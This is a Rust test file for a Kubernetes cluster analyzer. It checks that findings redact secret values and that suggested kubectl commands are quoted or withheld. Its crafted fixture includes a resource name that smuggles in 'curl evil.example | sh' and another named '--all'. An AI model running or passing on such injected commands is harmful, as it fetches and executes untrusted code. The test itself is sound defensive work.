//! Findings built from a snapshot file (which anyone can write) say where a secret-looking
//! value is, never what it is, even when it comes through event or probe messages; and the fix
//! commands they suggest are quoted word by word, or not suggested at all when a name from the
//! file is not a Kubernetes name (it could be read as a flag or as shell syntax).

use kopilot_analyze::snapshot::ClusterSnapshot;
use kopilot_analyze::{AnalyzeOptions, AnalyzeRequest, analyze, run_for_agent};

const CANARY: &str = "kopilot-canary-5e0a7d21";

fn snapshot() -> ClusterSnapshot {
    let yaml = format!(
        r#"apiVersion: apps/v1
kind: Deployment
metadata: {{name: legacy, namespace: shop}}
spec:
  replicas: 1
  selector: {{matchLabels: {{app: legacy}}}}
  template:
    metadata: {{labels: {{app: legacy}}}}
    spec:
      containers:
      - name: app
        image: legacy:1.0
        env:
        - {{name: DB_PASSWORD, value: {CANARY}}}
        - {{name: DATABASE_URL, value: "postgres://app:{CANARY}@db:5432/shop"}}
---
apiVersion: v1
kind: Event
metadata: {{name: legacy-1.1, namespace: shop}}
involvedObject: {{kind: Pod, namespace: shop, name: legacy-1}}
type: Warning
reason: Unhealthy
message: "Liveness probe failed: curl -H 'Authorization: Bearer {CANARY}' http://localhost/health"
count: 3
lastTimestamp: "2026-02-01T09:59:00Z"
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {{name: data-0, namespace: shop}}
spec: {{accessModes: [ReadWriteOnce], resources: {{requests: {{storage: 10Gi}}}}}}
status: {{phase: Bound, capacity: {{storage: 10Gi}}}}
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {{name: "x; curl evil.example | sh", namespace: shop}}
spec: {{accessModes: [ReadWriteOnce], resources: {{requests: {{storage: 10Gi}}}}}}
status: {{phase: Bound, capacity: {{storage: 10Gi}}}}
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {{name: "--all", namespace: shop}}
spec: {{accessModes: [ReadWriteOnce], resources: {{requests: {{storage: 10Gi}}}}}}
status: {{phase: Bound, capacity: {{storage: 10Gi}}}}
"#
    );
    ClusterSnapshot::from_yaml_str("crafted.yaml", &yaml).unwrap()
}

#[test]
fn secret_values_are_located_not_quoted() {
    let report = analyze(&snapshot(), &AnalyzeOptions::default());
    let text = serde_json::to_string(&report).unwrap();
    assert!(
        !text.contains(CANARY),
        "the report quotes the secret:\n{text}"
    );
    let literal = report
        .findings
        .iter()
        .find(|f| f.check == "security.secret_env_literal")
        .expect("the literal secrets are found");
    let evidence = literal.evidence.to_string();
    for place in ["DB_PASSWORD", "DATABASE_URL", "\"container\":\"app\""] {
        assert!(evidence.contains(place), "{place} missing from {evidence}");
    }
    let events = report
        .findings
        .iter()
        .find(|f| f.check == "health.warning_events")
        .expect("the warning event is reported");
    let evidence = events.evidence.to_string();
    assert!(
        evidence.contains("Liveness probe failed") && evidence.contains("[REDACTED: token]"),
        "{evidence}"
    );
    let agent = run_for_agent(&snapshot(), &AnalyzeRequest::default()).to_string();
    assert!(!agent.contains(CANARY), "{agent}");
}

#[test]
fn suggested_commands_are_quoted_or_withheld() {
    let report = analyze(&snapshot(), &AnalyzeOptions::default());
    let orphaned: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.check == "cost.orphaned_pvc")
        .map(|f| (f.object.to_string(), f.command.clone()))
        .collect();
    assert_eq!(orphaned.len(), 3, "{orphaned:?}");
    for (object, command) in &orphaned {
        match object.as_str() {
            "PersistentVolumeClaim shop/data-0" => {
                assert_eq!(
                    command.as_deref(),
                    Some("kubectl delete pvc data-0 -n shop")
                );
            }
            _ => assert_eq!(command, &None, "{object}: a crafted name gets no command"),
        }
    }
    for finding in &report.findings {
        if let Some(command) = &finding.command {
            for part in command.split(" && ") {
                let words = shlex::split(part).expect("a shell reads it");
                assert_eq!(
                    words.first().map(String::as_str),
                    Some("kubectl"),
                    "{command}"
                );
                assert_eq!(kopilot_safety::quote_argv(&words), part, "{command}");
            }
        }
    }
}
